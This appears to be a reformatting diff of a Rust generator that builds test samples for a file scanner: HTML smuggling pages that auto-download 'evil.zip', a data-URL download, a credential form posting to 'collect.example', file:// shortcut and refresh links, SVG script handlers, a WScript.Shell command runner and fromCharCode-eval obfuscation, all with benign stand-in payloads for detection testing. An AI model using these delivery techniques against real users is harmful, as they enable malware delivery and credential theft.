@@ -37,7 +37,11 @@ pub fn smuggling(name: &str, file: &[u8]) -> Vec<u8> {
 /// The same with the base64 text in pieces of 40 characters that the script joins.
 pub fn smuggling_split(name: &str, file: &[u8]) -> Vec<u8> {
     let encoded = STANDARD.encode(file);
-    let pieces: Vec<String> = encoded.as_bytes().chunks(40).map(|c| format!("\"{}\"", String::from_utf8_lossy(c))).collect();
+    let pieces: Vec<String> = encoded
+        .as_bytes()
+        .chunks(40)
+        .map(|c| format!("\"{}\"", String::from_utf8_lossy(c)))
+        .collect();
     let script = format!(
         "<script>\nvar pieces = [{}];\nvar text = atob(pieces.join(\"\"));\nvar bytes = Uint8Array.from(text, c => c.charCodeAt(0));\n\
          var link = document.createElement(\"a\");\nlink.href = URL.createObjectURL(new Blob([bytes]));\nlink.download = \"{name}\";\nlink.click();\n</script>",
@@ -48,7 +52,10 @@ pub fn smuggling_split(name: &str, file: &[u8]) -> Vec<u8> {
 
 /// A link that carries `file` in a `data:` URL.
 pub fn data_url(kind: &str, name: &str, file: &[u8]) -> Vec<u8> {
-    let link = format!("<a download=\"{name}\" href=\"data:{kind};base64,{}\">Your document</a>", STANDARD.encode(file));
+    let link = format!(
+        "<a download=\"{name}\" href=\"data:{kind};base64,{}\">Your document</a>",
+        STANDARD.encode(file)
+    );
     page("Your document", "", &link)
 }
 
@@ -84,15 +91,34 @@ pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
     vec![
         ("html-plain.html", plain("html-plain")),
         ("h01-smuggling.html", smuggling("evil.zip", &zip_of("h01-smuggling"))),
-        ("html-smuggling-split.html", smuggling_split("evil.zip", &zip_of("html-smuggling-split"))),
-        ("html-smuggling-eicar.html", smuggling("evil.zip", &zip::simple(&[("eicar.com", &eicar())]))),
+        (
+            "html-smuggling-split.html",
+            smuggling_split("evil.zip", &zip_of("html-smuggling-split")),
+        ),
+        (
+            "html-smuggling-eicar.html",
+            smuggling("evil.zip", &zip::simple(&[("eicar.com", &eicar())])),
+        ),
         ("html-smuggling-utf16.html", {
             let text = String::from_utf8(smuggling("evil.zip", &zip_of("html-smuggling-utf16"))).unwrap_or_default();
-            [b"\xff\xfe".as_slice(), &utf16le(&text.replace("charset=\"utf-8\"", "charset=\"utf-16\""))].concat()
+            [
+                b"\xff\xfe".as_slice(),
+                &utf16le(&text.replace("charset=\"utf-8\"", "charset=\"utf-16\"")),
+            ]
+            .concat()
         }),
-        ("h02-data-url.html", data_url("application/zip", "evil.zip", &zip_of("h02-data-url"))),
-        ("html-nested-frame.html", page("A frame", "", &format!("<iframe src=\"data:text/html;base64,{frame}\"></iframe>"))),
-        ("html-form-elsewhere.html", credential_form("https://collect.example/post", "html-form-elsewhere")),
+        (
+            "h02-data-url.html",
+            data_url("application/zip", "evil.zip", &zip_of("h02-data-url")),
+        ),
+        (
+            "html-nested-frame.html",
+            page("A frame", "", &format!("<iframe src=\"data:text/html;base64,{frame}\"></iframe>")),
+        ),
+        (
+            "html-form-elsewhere.html",
+            credential_form("https://collect.example/post", "html-form-elsewhere"),
+        ),
         ("html-form-own.html", credential_form("/login", "html-form-own")),
         ("html-refresh.html", {
             let head = "<meta http-equiv=\"refresh\" content=\"0; url=file://server.example/share/page.url\">";
@@ -105,11 +131,30 @@ pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
             );
             page("Are you a person?", "", &script)
         }),
-        ("svg-clean.svg", svg(&format!("<text x=\"1\" y=\"90\">{}</text>", marker("svg-clean")))),
-        ("svg-script.svg", svg(&format!("<script>alert('{}');</script>", marker("svg-script")))),
-        ("svg-handler.svg", svg(&format!("<rect width=\"9\" height=\"9\" onload=\"alert('{}')\"/>", marker("svg-handler")))),
+        (
+            "svg-clean.svg",
+            svg(&format!("<text x=\"1\" y=\"90\">{}</text>", marker("svg-clean"))),
+        ),
+        (
+            "svg-script.svg",
+            svg(&format!("<script>alert('{}');</script>", marker("svg-script"))),
+        ),
+        (
+            "svg-handler.svg",
+            svg(&format!(
+                "<rect width=\"9\" height=\"9\" onload=\"alert('{}')\"/>",
+                marker("svg-handler")
+            )),
+        ),
         ("h03-svg.svg", svg(&svg_blob)),
-        ("js-clean.js", format!("'use strict';\n// {}\nexport function add(a, b) {{\n  return a + b;\n}}\n", marker("js-clean")).into_bytes()),
+        (
+            "js-clean.js",
+            format!(
+                "'use strict';\n// {}\nexport function add(a, b) {{\n  return a + b;\n}}\n",
+                marker("js-clean")
+            )
+            .into_bytes(),
+        ),
         ("js-wsh.js", {
             let run = "var shell = new ActiveXObject(\"WScript.Shell\");\nshell.Run(\"cmd.exe /c echo harmless test\", 0, false);\n";
             format!("// {}\n{run}", marker("js-wsh")).into_bytes()
@@ -119,14 +164,33 @@ pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
             format!("eval(String.fromCharCode({}));\n", codes.join(",")).into_bytes()
         }),
         ("text-utf8.txt", text("text-utf8").into_bytes()),
-        ("text-utf8-bom.txt", [b"\xef\xbb\xbf".as_slice(), text("text-utf8-bom").as_bytes()].concat()),
-        ("text-utf16le-bom.txt", [b"\xff\xfe".as_slice(), &utf16le(&text("text-utf16le-bom"))].concat()),
-        ("text-utf16be-bom.txt", [b"\xfe\xff".as_slice(), &utf16be(&text("text-utf16be-bom"))].concat()),
+        (
+            "text-utf8-bom.txt",
+            [b"\xef\xbb\xbf".as_slice(), text("text-utf8-bom").as_bytes()].concat(),
+        ),
+        (
+            "text-utf16le-bom.txt",
+            [b"\xff\xfe".as_slice(), &utf16le(&text("text-utf16le-bom"))].concat(),
+        ),
+        (
+            "text-utf16be-bom.txt",
+            [b"\xfe\xff".as_slice(), &utf16be(&text("text-utf16be-bom"))].concat(),
+        ),
         ("text-utf16le.txt", utf16le(&text("text-utf16le"))),
         ("text-utf16be.txt", utf16be(&text("text-utf16be"))),
-        ("text-latin1.txt", text("text-latin1").replace('\u{20ac}', "EUR").chars().map(|c| c as u8).collect()),
+        (
+            "text-latin1.txt",
+            text("text-latin1").replace('\u{20ac}', "EUR").chars().map(|c| c as u8).collect(),
+        ),
         ("text-base64.txt", STANDARD.encode(zip_of("text-base64")).into_bytes()),
-        ("url-shortcut.url", format!("[InternetShortcut]\r\nURL=file://server.example/share/page.hta\r\n; {}\r\n", marker("url-shortcut")).into_bytes()),
+        (
+            "url-shortcut.url",
+            format!(
+                "[InternetShortcut]\r\nURL=file://server.example/share/page.hta\r\n; {}\r\n",
+                marker("url-shortcut")
+            )
+            .into_bytes(),
+        ),
     ]
 }
 
@@ -138,7 +202,12 @@ mod tests {
     fn the_smuggled_file_comes_back_and_its_marker_is_not_visible() {
         let file = zip::simple(&[("evil.txt", &payload("s"))]);
         let text = String::from_utf8(smuggling("evil.zip", &file)).unwrap();
-        assert_eq!(STANDARD.decode(text.split('"').find(|part| part.starts_with("UEsDB")).unwrap()).unwrap(), file);
+        assert_eq!(
+            STANDARD
+                .decode(text.split('"').find(|part| part.starts_with("UEsDB")).unwrap())
+                .unwrap(),
+            file
+        );
         assert!(!text.contains("AIRLOCK-TEST"));
     }
 }
